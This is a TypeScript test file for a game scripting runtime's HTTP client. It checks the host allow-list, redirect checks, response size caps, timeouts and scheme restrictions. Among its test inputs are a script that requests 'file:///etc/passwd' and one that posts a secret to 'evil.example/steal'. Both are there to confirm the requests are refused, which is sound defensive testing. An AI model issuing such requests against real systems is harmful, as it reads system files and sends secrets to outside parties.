// Spark.getHttp through the runtime requests API, against a local HTTP server on 127.0.0.1: only the hosts of
// PLAYBASE_SCRIPT_HTTP_ALLOW are reached, redirects are checked host by host, answers are capped, and a host not
// allowed ends with a clear script error; on PGlite or PostgreSQL.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GAME_CONFIG, type RuntimeWorld, startRuntimeWorld } from '../runtime/world.js';
import { runEventScript, script, setScripts } from './scripts.test-util.js';

let w: RuntimeWorld;
let alice: string;
let http: Server;
let base: string;
let port: number;

beforeAll(async () => {
  http = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      switch (req.url) {
        case '/json':
          res.writeHead(200, {
            'content-type': 'application/json',
            'x-test': 'yes',
            'set-cookie': ['a=1', 'b=2; Path=/'],
          });
          res.end(JSON.stringify({ hello: 'world', n: 3 }));
          return;
        case '/echo':
          res.writeHead(201, { 'content-type': 'application/json' });
          res.end(
            JSON.stringify({
              method: req.method,
              type: req.headers['content-type'] ?? null,
              auth: req.headers.authorization ?? null,
              custom: req.headers['x-custom'] ?? null,
              body,
            }),
          );
          return;
        case '/redirect-ok':
          res.writeHead(302, { location: '/json' });
          res.end();
          return;
        case '/redirect-away':
          res.writeHead(302, { location: `http://localhost:${port}/json` });
          res.end();
          return;
        case '/big':
          res.writeHead(200, { 'content-type': 'text/plain' });
          res.end('x'.repeat(2 * 1024 * 1024));
          return;
        case '/slow':
          return; // never answers
        default:
          res.writeHead(404, { 'content-type': 'text/plain' });
          res.end('nothing here');
      }
    });
  });
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
  port = (http.address() as AddressInfo).port;
  base = `http://127.0.0.1:${port}`;
  w = await startRuntimeWorld(GAME_CONFIG, { PLAYBASE_SCRIPT_HTTP_ALLOW: `127.0.0.1:${port}` });
  alice = await w.player('alice');
}, 60_000);

afterAll(async () => {
  await w?.close();
  http.closeAllConnections();
  await new Promise((resolve) => http.close(resolve));
});

const run = (lines: string[]) => runEventScript(w, alice, lines);

describe('Spark.getHttp', () => {
  it('get, postJson, postForm, putString and delete to an allowed host; headers, basic auth, redirects', async () => {
    const answer = await run([
      `var base = "${base}";`,
      'var r = Spark.getHttp(base + "/json").get();',
      'var cookies = r.getCookies();',
      'var p = Spark.getHttp(base + "/echo").setHeaders({ "X-Custom": "c1" }).setBasicAuth("user", "pässword").postJson({ a: [1, 2] });',
      'var f = Spark.getHttp(base + "/echo").postForm({ q: "a b&c", n: [1, 2] }).getResponseJson();',
      'var s = Spark.getHttp(base + "/echo").putString("plain text").getResponseJson();',
      'var d = Spark.getHttp(base + "/echo").delete().getResponseJson();',
      'var red = Spark.getHttp(base + "/redirect-ok").get().getResponseJson();',
      'var missing = Spark.getHttp(base + "/nope").get();',
      'Spark.setScriptData("r", { code: r.getResponseCode(), json: r.getResponseJson(), header: r.getHeaders()["x-test"], cookies: cookies,',
      '  same: r.code === r.getResponseCode() && r.body === r.getResponseString(), post: p.getResponseJson(), postCode: p.code,',
      '  form: [f.type, f.body], put: [s.method, s.type, s.body], del: d.method, red: red,',
      '  missing: [missing.getResponseCode(), missing.getResponseString(), missing.getResponseJson()] });',
    ]);
    expect(answer.scriptData.r).toEqual({
      code: 200,
      json: { hello: 'world', n: 3 },
      header: 'yes',
      cookies: ['a=1', 'b=2; Path=/'],
      same: true,
      post: {
        method: 'POST',
        type: 'application/json; charset=utf-8',
        auth: `Basic ${Buffer.from('user:pässword').toString('base64')}`,
        custom: 'c1',
        body: '{"a":[1,2]}',
      },
      postCode: 201,
      form: ['application/x-www-form-urlencoded', 'q=a%20b%26c&n=1&n=2'],
      put: ['PUT', 'text/plain; charset=utf-8', 'plain text'],
      del: 'DELETE',
      red: { hello: 'world', n: 3 },
      missing: [404, 'nothing here', null],
    });
  });

  it('a host not allowed, a redirect to one, an oversized answer and a timeout end with clear errors', async () => {
    const answer = await run([
      `var base = "${base}", out = {};`,
      'function attempt(name, f) { try { f(); out[name] = "no error"; } catch (e) { out[name] = e.message; } }',
      'attempt("host", function () { Spark.getHttp("http://example.com/").get(); });',
      `attempt("port", function () { Spark.getHttp("http://127.0.0.1:${port + 1}/json").get(); });`,
      'attempt("away", function () { Spark.getHttp(base + "/redirect-away").get(); });',
      'attempt("big", function () { Spark.getHttp(base + "/big").get(); });',
      'attempt("slow", function () { Spark.getHttp(base + "/slow", 200).get(); });',
      'attempt("scheme", function () { Spark.getHttp("file:///etc/passwd").get(); });',
      'Spark.setScriptData("r", out);',
    ]);
    expect(answer.scriptData.r).toEqual({
      host: 'getHttp: the host example.com is not allowed (PLAYBASE_SCRIPT_HTTP_ALLOW)',
      port: `getHttp: the host 127.0.0.1:${port + 1} is not allowed (PLAYBASE_SCRIPT_HTTP_ALLOW)`,
      away: `getHttp: the host localhost:${port} is not allowed (PLAYBASE_SCRIPT_HTTP_ALLOW)`,
      big: 'getHttp: the answer is larger than 1048576 bytes',
      slow: `getHttp: no answer from 127.0.0.1:${port} within 200 ms`,
      scheme: 'getHttp: only http and https URLs are allowed, not file:',
    });

    // Uncaught, the refusal fails the request with its message (Preview) and an ERROR entry in script.log.
    const failed = await run(['Spark.getHttp("http://evil.example/steal").postJson({ secret: 1 });']);
    expect(failed.error).toEqual({ SCRIPT: 'ERROR' });
    expect(failed.scriptErrorMessage).toBe(
      'Error: getHttp: the host evil.example is not allowed (PLAYBASE_SCRIPT_HTTP_ALLOW)',
    );
  });
});

describe('Spark.getHttp with no allowed host (the default)', () => {
  it('refuses every host', async () => {
    const other = await startRuntimeWorld(GAME_CONFIG);
    try {
      const player = await other.player('bob');
      await setScripts(other, [script('event', 'score', `Spark.getHttp("${base}/json").get();`)]);
      const answer = await other.ask('LogEventRequest', { eventKey: 'score', playerId: player, SCORE: 1 });
      expect(answer.scriptErrorMessage).toBe(
        `Error: getHttp: the host 127.0.0.1:${port} is not allowed (PLAYBASE_SCRIPT_HTTP_ALLOW)`,
      );
    } finally {
      await other.close();
    }
  }, 60_000);
});
